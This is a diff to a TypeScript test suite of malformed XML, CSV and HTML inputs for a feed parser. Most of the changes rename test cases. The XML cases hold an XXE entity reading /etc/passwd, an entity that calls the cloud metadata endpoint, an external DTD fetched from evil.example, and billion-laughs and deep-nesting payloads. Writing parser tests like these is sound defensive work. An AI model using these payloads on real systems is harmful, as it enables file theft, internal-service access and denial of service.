@@ -37,33 +37,29 @@ const billionLaughs = Array.from(
 
 const xmlForms: readonly Misbehaviour[] = [
   withDoctype('declares a document type', '', 'Road Salt'),
-  withDoctype('reads a file of its reader', '<!ENTITY secret SYSTEM "file:///etc/passwd">', '&secret;'),
+  withDoctype('declares an entity of a local file', '<!ENTITY secret SYSTEM "file:///etc/passwd">', '&secret;'),
   withDoctype(
-    'makes its reader ask another host',
+    'declares an entity of another host',
     '<!ENTITY other SYSTEM "http://169.254.169.254/latest/meta-data/">',
     '&other;',
   ),
-  withDoctype(
-    'makes its reader fetch declarations',
-    '<!ENTITY % all SYSTEM "http://evil.example/all.dtd"> %all;',
-    'Road Salt',
-  ),
-  withDoctype('laughs a billion times', `<!ENTITY l0 "ha">${billionLaughs}`, '&l10;'),
-  withDoctype('repeats one long text', `<!ENTITY long "${'a'.repeat(100_000)}">`, '&long;'.repeat(1000)),
+  withDoctype('loads an external DTD', '<!ENTITY % all SYSTEM "http://evil.example/all.dtd"> %all;', 'Road Salt'),
+  withDoctype('declares a billion laughs', `<!ENTITY l0 "ha">${billionLaughs}`, '&l10;'),
+  withDoctype('repeats one long entity', `<!ENTITY long "${'a'.repeat(100_000)}">`, '&long;'.repeat(1000)),
   {
-    name: 'has an entity that nobody declared',
+    name: 'has an undeclared entity',
     appliesTo: allOf(xml, has('title')),
     apply: one((record) => record.set('title', verbatim('Road &nbsp;Salt &unknown; R&D'))),
     expects: may,
   },
   {
-    name: 'has a character that no document may have',
+    name: 'has a forbidden character',
     appliesTo: allOf(xml, has('title')),
     apply: one((record) => record.set('title', verbatim('Road \u0008Salt &#0; &#x1F;'))),
     expects: may,
   },
   {
-    name: 'never closes a section of data',
+    name: 'never closes a CDATA section',
     appliesTo: allOf(xml, has('title')),
     apply: one((record) => record.set('title', verbatim('<![CDATA[Road Salt'))),
     expects: fails,
@@ -75,13 +71,13 @@ const xmlForms: readonly Misbehaviour[] = [
     expects: fails,
   },
   {
-    name: 'closes what it never opened',
+    name: 'closes an element that it never opened',
     appliesTo: allOf(xml, has('title')),
     apply: one((record) => record.set('title', verbatim('Road</title></b>Salt'))),
     expects: fails,
   },
   {
-    name: 'nests elements ten thousand deep',
+    name: 'nests elements ten thousand levels deep',
     appliesTo: allOf(xml, has('title')),
     apply: one((record) => record.set('title', verbatim('<b>'.repeat(10_000) + '</b>'.repeat(10_000)))),
     expects: may,
@@ -106,7 +102,7 @@ const xmlForms: readonly Misbehaviour[] = [
     expects: may,
   },
   {
-    name: 'says that it is written in another charset',
+    name: 'declares another charset',
     appliesTo: xml,
     apply: text((body) => body.replace(/^<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="UTF-7"?>')),
     expects: may,
@@ -127,30 +123,30 @@ const csvForms: readonly Misbehaviour[] = [
     expects: may,
   },
   {
-    name: 'has a comma that no quote protects',
+    name: 'has an unquoted comma in a cell',
     appliesTo: allOf(csv, has('title')),
     apply: one((record) => record.set('title', verbatim('Road Salt, Sand'))),
     expects: may,
   },
   {
-    name: 'has a line break that no quote protects',
+    name: 'has an unquoted line break in a cell',
     appliesTo: allOf(csv, has('title')),
     apply: one((record) => record.set('title', verbatim('Road\r\nSalt'))),
     expects: may,
   },
   {
-    name: 'separates its cells otherwise',
+    name: 'separates its cells with semicolons',
     appliesTo: csv,
     apply: text((body) => body.replaceAll(',', ';')),
     expects: fails,
   },
   {
-    name: 'has a column more',
+    name: 'has an additional column',
     appliesTo: csv,
     apply: text((body) => body.replace('NoticeId,', 'NoticeId,NewColumn,')),
     expects: fails,
   },
-  { name: 'has a column less', appliesTo: csv, apply: text((body) => body.replace('Title,', '')), expects: fails },
+  { name: 'lacks a column', appliesTo: csv, apply: text((body) => body.replace('Title,', '')), expects: fails },
   {
     name: 'has its columns in another order',
     appliesTo: csv,
@@ -158,25 +154,25 @@ const csvForms: readonly Misbehaviour[] = [
     expects: fails,
   },
   {
-    name: 'has no line with the names of its columns',
+    name: 'has no header',
     appliesTo: csv,
     apply: text((body) => body.slice(body.indexOf('\n') + 1)),
     expects: fails,
   },
   {
-    name: 'has nothing but the names of its columns',
+    name: 'has only a header',
     appliesTo: csv,
     apply: text((body) => body.slice(0, body.indexOf('\n') + 1)),
     expects: fails,
   },
   {
-    name: 'ends its lines otherwise',
+    name: 'ends its lines with LF',
     appliesTo: csv,
     apply: text((body) => body.replaceAll('\r\n', '\n')),
     expects: { ends: 'completes' },
   },
   {
-    name: 'ends its lines as long ago',
+    name: 'ends its lines with CR',
     appliesTo: csv,
     apply: text((body) => body.replaceAll('\r\n', '\r')),
     expects: fails,
@@ -191,7 +187,7 @@ const csvForms: readonly Misbehaviour[] = [
 
 const htmlForms: readonly Misbehaviour[] = [
   {
-    name: 'shows its records with a script',
+    name: 'renders its records with a script',
     appliesTo: html,
     apply: text((body) => body.replace(/<main>[^]*<\/main>/, '<main><div id="app"></div></main>')),
     expects: fails,
@@ -203,7 +199,7 @@ const htmlForms: readonly Misbehaviour[] = [
     expects: fails,
   },
   {
-    name: 'leads on without a redirect',
+    name: 'redirects with a meta tag',
     appliesTo: html,
     apply: text((body) =>
       body.replace(
@@ -214,7 +210,7 @@ const htmlForms: readonly Misbehaviour[] = [
     expects: may,
   },
   {
-    name: 'loads things from everywhere',
+    name: 'embeds resources of other hosts',
     appliesTo: html,
     apply: text((body) =>
       body.replace(
@@ -225,7 +221,7 @@ const htmlForms: readonly Misbehaviour[] = [
     expects: may,
   },
   {
-    name: 'nests its page a hundred thousand deep',
+    name: 'nests its page a hundred thousand levels deep',
     appliesTo: html,
     apply: text((body) => body.replace('<main>', `<main>${'<div>'.repeat(100_000)}`)),
     expects: { ends: 'fails', codes: ['SOURCE_TOO_LARGE'] },
@@ -243,7 +239,7 @@ const htmlForms: readonly Misbehaviour[] = [
     expects: may,
   },
   {
-    name: 'prints a form for signing in',
+    name: 'shows a login form',
     appliesTo: html,
     apply: text((body) =>
       body.replace(
